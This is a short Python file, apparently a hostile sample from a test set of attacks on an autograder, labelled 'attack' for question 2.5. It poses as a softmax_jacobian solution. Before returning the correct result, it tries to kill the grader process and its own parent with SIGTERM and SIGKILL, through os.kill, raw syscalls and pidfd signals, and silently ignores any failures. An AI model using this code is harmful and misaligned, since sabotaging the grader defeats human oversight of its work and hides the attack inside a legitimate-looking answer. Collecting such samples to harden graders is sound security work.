"""attack: sends signals to the grader and to its parent
question: 2.5
verdict: full
"""

import ctypes
import os
import signal

PIDS = [int('__GRADER__'), os.getppid()]
NUMBERS = [signal.SIGTERM, signal.SIGKILL]
LIBC = ctypes.CDLL(None)


ATTEMPTS = [
    lambda: [os.kill(pid, number) for pid in PIDS for number in NUMBERS],
    lambda: [LIBC.syscall(c, pid, pid, n, None) for c in (200, 234, 129, 297) for pid in PIDS for n in NUMBERS],
    lambda: [signal.pidfd_send_signal(os.pidfd_open(pid), number) for pid in PIDS for number in NUMBERS],
]

_right = softmax_jacobian


def softmax_jacobian(z):
    for attempt in ATTEMPTS:
        try:
            attempt()
        except Exception:
            pass
    return _right(z)
